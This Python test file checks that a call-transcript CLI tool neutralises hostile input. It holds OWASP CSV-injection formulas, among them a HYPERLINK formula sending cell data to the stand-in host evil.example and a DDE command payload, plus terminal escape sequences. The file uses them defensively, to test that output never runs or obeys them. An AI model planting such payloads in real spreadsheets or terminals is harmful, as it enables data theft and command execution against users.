"""Hostile call logs against what phrasecheck writes: spreadsheets never get formulas, terminals never get escapes."""

import csv
import json
import os
import zipfile

from openpyxl import load_workbook
from typer.testing import CliRunner

from phrasecheck.cli.app import app

#: Text that a spreadsheet runs when a cell starts with it (OWASP "CSV injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", "@SUM(A1)"]


def run(*args):
    return CliRunner().invoke(app, list(map(str, args)))


def hostile_logs(folder):
    """Calls whose ids and staff ids are formulas, in files whose names are formulas."""
    folder.mkdir()
    names = ["=1+2.jsonl", "+1.jsonl", "-1.jsonl", "@x.jsonl"]
    for number, name in enumerate(names):
        calls = [{"id": formula, "staff_id": FORMULAS[(index + number) % len(FORMULAS)],
                  "turns": [{"speaker": "坐席", "role": "staff", "text": "您好，这事不归我管，你问别人去"},
                            {"speaker": "市民", "role": "resident", "text": "好的"}]}
                 for index, formula in enumerate(FORMULAS)]
        (folder / name).write_text("".join(json.dumps(c, ensure_ascii=False) + "\n" for c in calls), encoding="utf-8")
    return names


def csv_cells(path):
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return [cell for row in list(csv.reader(stream))[1:] for cell in row]


def assert_no_formula_in_csv(path):
    cells = csv_cells(path)
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    return cells


def assert_no_formula_in_xlsx(path):
    with zipfile.ZipFile(path) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]
    return [cell for sheet in load_workbook(path, read_only=True) for row in sheet.values for cell in row]


def test_call_ids_staff_ids_and_file_names_never_become_formulas(tmp_path, monkeypatch):
    names = hostile_logs(tmp_path / "logs")
    monkeypatch.chdir(tmp_path / "logs")
    result = run("batch", "--db", tmp_path / "r.db", "--workers", 1,
                 "--out", tmp_path / "calls.csv", "--out", tmp_path / "calls.xlsx", "--", *names)
    assert result.exit_code == 0, result.output
    cells = assert_no_formula_in_csv(tmp_path / "calls.csv")
    assert {"'" + text for text in FORMULAS} <= set(cells)  # the text stays readable, behind OWASP's quote
    assert {"'" + name for name in names} <= set(cells)
    values = assert_no_formula_in_xlsx(tmp_path / "calls.xlsx")
    assert set(FORMULAS) | set(names) <= set(values)  # XLSX keeps the text exactly, as text


def test_report_workbooks_and_csv_never_hold_formulas(tmp_path, monkeypatch):
    names = hostile_logs(tmp_path / "logs")
    monkeypatch.chdir(tmp_path / "logs")
    assert run("batch", "--db", tmp_path / "r.db", "--workers", 1, "--", *names).exit_code == 0
    for by in ("staff", "rule"):
        result = run("report", "--by", by, "--db", tmp_path / "r.db",
                     "--out", tmp_path / f"{by}.csv", "--out", tmp_path / f"{by}.xlsx")
        assert result.exit_code == 0, result.output
        assert_no_formula_in_csv(tmp_path / f"{by}.csv")
        assert_no_formula_in_xlsx(tmp_path / f"{by}.xlsx")
    assert set(FORMULAS) <= set(assert_no_formula_in_xlsx(tmp_path / "staff.xlsx"))


#: What a transcript or a file name can hold to take over a terminal: clear the screen, set the window
#: title, hide the rest of the line (ESC sequences), the same as one C1 byte, text shown reversed.
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x1b[8m\x9b31m\u202e"
CONTROLS = ("\x1b", "\x9b", "\u202e", "\x07")


def assert_shown_not_obeyed(result):
    output = result.stdout + result.stderr
    assert not [char for char in CONTROLS if char in output], repr(output)
    assert "␛[2J" in output


def test_transcript_text_cannot_drive_the_terminal(tmp_path):
    path = tmp_path / "call.txt"
    path.write_text(f"坐席：您好{ESCAPES}，这事不归我管，你问别人去\n市民：好的{ESCAPES}\n", encoding="utf-8")
    for command in ("show", "score"):
        result = run(command, path)
        assert result.exit_code == 0, result.output
        assert_shown_not_obeyed(result)
    assert "这事不归我管" in run("score", path).stdout


def test_file_names_and_draft_text_cannot_drive_the_terminal(tmp_path):
    path = tmp_path / f"draft{ESCAPES}.txt"
    path.write_text(f"这事不归我管，你问别人去{ESCAPES}\n", encoding="utf-8")
    result = run("check", path)
    assert result.exit_code == 1 and "不归我管" in result.stdout
    assert_shown_not_obeyed(result)
    result = run("fix", path)
    assert "请稍等" in result.stdout
    assert_shown_not_obeyed(result)
    missing = run("check", tmp_path / f"missing{ESCAPES}.txt")
    assert missing.exit_code == 2
    assert_shown_not_obeyed(missing)


def test_staff_ids_in_batch_tables_cannot_drive_the_terminal(tmp_path):
    log = tmp_path / "calls.jsonl"
    log.write_text(json.dumps({"id": "c1", "staff_id": f"A01{ESCAPES}", "turns": [
        {"speaker": "坐席", "role": "staff", "text": "您好，请讲"}]}) + "\n", encoding="utf-8")
    assert run("batch", log, "--db", tmp_path / "r.db", "--workers", 1).exit_code == 0
    result = run("report", "--db", tmp_path / "r.db")
    assert result.exit_code == 0 and "A01" in result.stdout
    assert_shown_not_obeyed(result)


def test_json_output_stays_valid_utf8_for_file_names_that_are_not(tmp_path):
    """GBK file names from an old archive: named with \\xNN escapes, never written as raw bytes."""
    folder = os.fsencode(tmp_path)
    draft, binary, log = (os.fsdecode(folder + name) for name in (b"/\xb2\xe2\xca\xd4.txt", b"/\xb6\xfe.txt", b"/\xc8\xfd.jsonl"))
    with open(draft, "w", encoding="utf-8") as stream:
        stream.write("坐席：这事不归我管，你问别人去\n市民：好的\n")
    with open(binary, "wb") as stream:
        stream.write(b"\x89PNG\x00\x00" * 100)
    with open(log, "w", encoding="utf-8") as stream:
        stream.write('{"id": "a", "turns": [{"speaker": "坐席", "text": "您好"}]}\n')
    missing = os.fsdecode(folder + b"/\xcb\xc4.txt")
    for command in ("check", "score", "show"):
        result = run(command, "--format", "json", draft, binary, log, missing)
        text = result.stdout_bytes.decode("utf-8")  # strict: raw GBK bytes would fail here
        json.loads(text)
        assert r"\\xb2\\xe2\\xca\\xd4.txt" in text and r"\\xcb\\xc4.txt" in text, command
